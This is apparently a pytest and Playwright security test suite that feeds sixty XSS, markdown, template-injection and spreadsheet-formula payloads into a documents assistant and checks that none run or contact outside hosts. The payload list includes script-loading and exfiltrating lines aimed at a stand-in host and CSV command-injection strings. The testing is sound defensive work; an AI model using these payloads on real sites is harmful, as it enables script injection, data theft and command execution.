"""Words of papers and questions stay words: nothing in them runs, asks another host, or becomes a formula or a field.

Sixty payloads stand in text, titles, headings, cells, names of councils and committees, names of files and questions.
A real browser then goes through the conversation and every page that shows them.
"""

from __future__ import annotations

import csv
import html
import io
import re
import zipfile
from collections.abc import Iterator
from urllib.parse import urlencode

import pytest
from browsing import answered, serving
from playwright.sync_api import Browser, Page, expect

from assistant.answer import Question
from assistant.ask import Assistant
from assistant.ledger.kinds import LEDGERS
from ingest.pipeline import ingest
from ingest.report import Access
from ingest.settings import Settings

pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning:gradio.queueing")

AWAY = "http://198.51.100.1"
MARKUP = (
    "<script>window.harm=1</script>",
    f"<script src={AWAY}/x.js></script>",
    "<img src=x onerror=window.harm=1>",
    f"<img src={AWAY}/x.png>",
    f'<img srcset="{AWAY}/x.png 2x">',
    "<svg onload=window.harm=1></svg>",
    f'<svg><image href="{AWAY}/x.svg" /></svg>',
    "<svg><script>window.harm=1</script></svg>",
    f'<svg><use href="{AWAY}/x.svg#a"></use></svg>',
    "<svg><animate onbegin=window.harm=1 attributeName=x dur=1s>",
    f"<iframe src={AWAY}/></iframe>",
    '<iframe srcdoc="<script>parent.harm=1</script>"></iframe>',
    f"<object data={AWAY}/x.swf></object>",
    f"<embed src={AWAY}/x.swf>",
    f"<form action={AWAY}/><input name=q autofocus onfocus=window.harm=1><button>Sign in</button></form>",
    f"<style>@import url({AWAY}/x.css); body{{display:none}}</style>",
    f'<link rel=stylesheet href="{AWAY}/x.css">',
    f'<link rel=prefetch href="{AWAY}/x">',
    f'<meta http-equiv=refresh content="0;url={AWAY}/">',
    f"<base href={AWAY}/>",
    f"<video poster={AWAY}/x.png><source onerror=window.harm=1 src=x></video>",
    f"<audio src={AWAY}/x.mp3 autoplay onerror=window.harm=1>",
    "<details open ontoggle=window.harm=1>",
    "<marquee onstart=window.harm=1>",
    f'<div style="background:url({AWAY}/x.png)">',
    "<body onload=window.harm=1>",
    "<math><mtext><style><img src=x onerror=window.harm=1></style></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=window.harm=1>'>",
    "<a href=javascript:window.harm=1 autofocus onfocus=window.harm=1>x</a>",
    "</textarea></title></style></script><script>window.harm=1</script>",
    "</div></main></body><script>window.harm=1</script>",
    "<!--><img src=x onerror=window.harm=1>-->",
    "<![CDATA[<script>window.harm=1</script>]]>",
    "<?xml version=1?><script>window.harm=1</script>",
    "<scr<script>ipt>window.harm=1</scr</script>ipt>",
    '<IMG """><SCRIPT>window.harm=1</SCRIPT>">',
    "<img/src='x'/onerror=window.harm=1//",
)
BREAKERS = (
    '" onmouseover="window.harm=1" autofocus onfocus="window.harm=1" x="',
    "' onfocus='window.harm=1' autofocus tabindex=1 x='",
    "` onfocus=window.harm=1 autofocus `",
    '"><img src=x onerror=window.harm=1>',
    "&lt;img src=x onerror=window.harm=1&gt;",
    "&#60;img src=x onerror=window.harm=1&#62;",
    "&#x3C;script&#x3E;window.harm=1&#x3C;/script&#x3E;",
    "&amp;lt;script&amp;gt;window.harm=1&amp;lt;/script&amp;gt;",
    "\\u003cimg src=x onerror=window.harm=1\\u003e",
    "\u202e<img src=x onerror=window.harm=1>\u202c",
    "\uff1cscript\uff1ewindow.harm=1\uff1c/script\uff1e",
)
MARKDOWN = (
    f"![x]({AWAY}/x.png?q=secret)",
    f"![x][1] [1]: {AWAY}/x.png",
    "[click](javascript:window.harm=1)",
    "[click](data:text/html,<script>window.harm=1</script>)",
    f"<{AWAY}/auto>",
    "```html <img src=x onerror=window.harm=1> ```",
    "$$\\href{javascript:window.harm=1}{x}$$",
    "{{ 7*7 }}{% raw %}{{ cycler.__init__ }}",
    "${window.harm=1}#{window.harm=1}{window.harm=1}",
)
FORMULAS = ('=HYPERLINK("http://198.51.100.1/","x")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0")
PAYLOADS = (*MARKUP, *BREAKERS, *MARKDOWN, *FORMULAS)
NASTY = f"{MARKUP[2]}{MARKDOWN[0]}{BREAKERS[0]}"
FILE = 'kestrel" onfocus="window.harm=1" autofocus x=\'<img src=x onerror=window.harm=1>.txt'

WATCH = """
window.addEventListener("securitypolicyviolation", (e) => { window.broken = (window.broken || "") + e.blockedURI; });
"""


def paper(body: str, title: str, paragraphs: list[str], council: str = "Fernmoor Council") -> str:
    text = "\n\n".join(f"1.{at} {words}" for at, words in enumerate(paragraphs, 1))
    return (
        f"REPORT TO: {body}\n\nDate of Meeting: 9 July 2024\n\nReport of: Ann Lee {MARKUP[5]}\n\n"
        f"Subject/Title: {title}\n\n1 Background {MARKUP[2]}\n\n{text}\n\n2 Recommendations {MARKDOWN[0]}\n\n"
        f"2.1 Cabinet of {council} is asked to:\n\na) Approve {NASTY} by 30 August 2024; and\n\n"
        f"b) note that £1.4m {FORMULAS[0]} is to be spent on {MARKUP[0]} in 2024/25.\n"
    )


def table() -> str:
    cells = "".join(
        f"<tr><td>{html.escape(payload)}</td><td>{html.escape(PAYLOADS[-at])}</td><td>£{at},000</td></tr>"
        for at, payload in enumerate(PAYLOADS, 1)
    )
    return (
        "<html><head><title>Table</title></head><body><p>REPORT TO: Cabinet</p><p>Date of Meeting: 10 July 2024</p>"
        f"<p>Subject: Cells {html.escape(NASTY)}</p><h2>1 Background</h2>"
        "<p>1.1 The Kestrel cells of Fernmoor Council.</p>"
        f"<table><tr><th>Name {html.escape(NASTY)}</th><th>Other</th><th>Sum</th></tr>{cells}</table></body></html>"
    )


@pytest.fixture(scope="module")
def own(tmp_path_factory: pytest.TempPathFactory) -> Settings:
    folder = tmp_path_factory.mktemp("payloads")
    held = folder / "papers"
    held.mkdir()
    third = len(PAYLOADS) // 3
    for at, name in enumerate((FILE, "=cmd()+1.txt", "![x](198.51.100.1).txt")):
        said = [
            f"The Kestrel item {n} of Fernmoor Council is {p} now."
            for n, p in enumerate(PAYLOADS[at * third :][: third + 2])
        ]
        body = f"Cabinet {(MARKUP[2], MARKDOWN[0], FORMULAS[0])[at]}"
        (held / name).write_text(
            paper(body, f"Kestrel {at} {(NASTY, MARKUP[0], MARKDOWN[2])[at]}", said), encoding="utf-8"
        )
    (held / "cells.html").write_text(table(), encoding="utf-8")
    limits = {"questions_per_minute": 10**6, "questions_per_minute_address": 10**6}
    made = Settings(library=folder / "library", history=folder / "history", **limits)
    assert len(ingest([held], made).added) == 4
    return made


@pytest.fixture(scope="module")
def held(own: Settings) -> Iterator[Assistant]:
    opened = Assistant(own)
    yield opened
    opened.close()


@pytest.fixture(scope="module")
def at(own: Settings, held: Assistant) -> Iterator[str]:
    with serving(held, own) as address:
        yield address


EXPECTED = (
    "the server responded with a status of 4",  # a place that is not there
    "AbortError: signal is aborted",  # a page is left while it fetches
    "Connection errored out",
)


class Watched:
    """A page, and everything it did that it should not have done."""

    def __init__(self, browser: Browser, at: str) -> None:
        self.at, self.wrong = at, []
        self.context = browser.new_context(viewport={"width": 1280, "height": 900})
        self.context.add_init_script(WATCH)
        self.page: Page = self.context.new_page()
        self.page.on("dialog", lambda dialog: (self.wrong.append(f"dialog {dialog.message}"), dialog.dismiss()))
        self.page.on("pageerror", lambda error: self.wrong.append(f"fault {error}"))
        self.page.on("console", lambda said: self._said(said.type, said.text))
        self.page.on("request", lambda sent: self._sent(sent.url))
        self.page.on("frameattached", lambda frame: self.wrong.append(f"frame {frame.url}"))

    def _said(self, kind: str, text: str) -> None:
        if kind == "error" and not any(words in text for words in EXPECTED):
            self.wrong.append(text)

    def _sent(self, address: str) -> None:
        if not address.startswith((self.at, "data:", f"blob:{self.at}")) or address.rstrip("/").endswith("/x"):
            self.wrong.append(f"asked {address}")

    def go(self, place: str) -> None:
        self.page.goto(self.at + place.lstrip("/"))
        self.check(place)

    def check(self, where: str) -> None:
        self.page.wait_for_timeout(50)  # what would run, has run
        done = self.page.evaluate(
            "[typeof window.harm, window.broken || '', document.querySelectorAll("
            "'iframe, object, embed, base, body script:not([src]):not([type]):not(:empty)').length]"
        )
        assert (done[:2], self.wrong) == (["undefined", ""], []), where


def questions() -> list[str]:
    """All payloads in few questions."""
    return ["What is Kestrel " + " ".join(PAYLOADS[at : at + 15]) + "?" for at in range(0, len(PAYLOADS), 15)]


def test_nothing_runs_in_a_browser(held: Assistant, at: str, browser: Browser) -> None:
    assert len(PAYLOADS) == len(set(PAYLOADS)) == 60
    watched = Watched(browser, at)
    page = watched.page
    watched.go("/")
    expect(page.locator("#suggestions button").first).to_be_visible()
    watched.check("suggestions and shelf")
    for number, text in enumerate([*questions(), "What is Kestrel item 3?", "What is Cabinet asked to approve?"], 1):
        page.locator("#question textarea").fill(text)
        page.locator("#question textarea").press("Enter")
        answered(page, number)
        watched.check(f"answer to {text}")
    for chip in page.locator("#now button.note, #now a.note").all()[:3]:
        chip.click()
        page.wait_for_timeout(100)
        watched.check("source pane")
    link = page.locator("#now a.link").first.get_attribute("href") or ""
    assert link
    for place in places([card.name for card in held.cards()]):
        watched.go(place)
    watched.go(link)
    watched.go("/history")
    talk = page.locator("main a[href*='/history/']").first.get_attribute("href") or ""
    watched.go(talk)
    expect(page.locator("main")).to_contain_text("window.harm=1")
    check_files(page, at, link, talk)
    watched.context.close()


def places(names: list[str]) -> Iterator[str]:
    """The pages that show words of papers, and those that say back what is typed into their address."""
    yield from (f"/paper?{urlencode({'report': name, 'find': 'kestrel'})}" for name in names)
    yield from (f"/ledger/{ledger.name}" for ledger in LEDGERS)
    yield "/papers"
    yield f"/papers?{urlencode({'find': 'kestrel', 'words': ''})}"
    yield f"/papers?{urlencode({'words': NASTY, 'find': NASTY})}"
    yield f"/source?{urlencode({'report': FILE, 'para': '1.1', 'quote': MARKUP[0]})}"
    yield f"/ledger/{LEDGERS[0].name}?{urlencode({'find': NASTY, 'council': NASTY})}"
    yield f"/?{urlencode({'question': NASTY, 'council': NASTY, 'report': FILE})}"
    yield f"/history?{urlencode({'find': 'window.harm'})}"


def check_files(page: Page, at: str, link: str, talk: str) -> None:
    """What is saved: no cell a spreadsheet would run, no field or picture a word processor would fetch."""
    for place in ("papers", *(f"ledger/{ledger.name}" for ledger in LEDGERS)):
        got = page.request.get(f"{at}{place}?form=csv")
        assert got.status == 200
        rows = list(csv.reader(io.StringIO(got.text().removeprefix("\ufeff"))))
        assert not [cell for row in rows for cell in row if cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\r"))]
    saved = [f"{link.split('#')[0].lstrip('/')}.docx", f"{talk.replace('history', 'conversation').lstrip('/')}.docx"]
    for place in saved:
        got = page.request.get(f"{at}{place}")
        assert got.status == 200, place
        with zipfile.ZipFile(io.BytesIO(got.body())) as kept:
            parts = {name: kept.read(name).decode(errors="replace") for name in kept.namelist()}
        assert not re.search(r"<w:(?:fldSimple|instrText|fldChar|object|altChunk)", parts["word/document.xml"])
        assert not [name for name, words in parts.items() if name.endswith(".rels") and AWAY in words]
        assert "window.harm" in parts["word/document.xml"]


def test_the_watch_sees_harm(at: str, browser: Browser) -> None:
    """A page in which a payload does stand as markup is told: the watch is not blind."""
    for payload in (MARKUP[2], MARKUP[3]):
        watched = Watched(browser, at)
        watched.go("/about")
        watched.page.evaluate("words => { document.querySelector('main').innerHTML = words }", payload)
        with pytest.raises(AssertionError):
            watched.check(payload)
            watched.page.wait_for_timeout(500)
            watched.check(payload)
        watched.context.close()


def test_the_papers_hold_what_they_are_meant_to(held: Assistant) -> None:
    everything = "\n".join(each.text for card in held.cards() for each in held.report(card.name).paragraphs)
    for payload in PAYLOADS:
        assert payload.isascii() is False or html.escape(payload[:20]) in html.escape(everything), payload
    assert NASTY[:30] in str([card.header for card in held.cards()])
    assert held.ask(Question("What is Kestrel item 3?", Access.OPEN)).statements
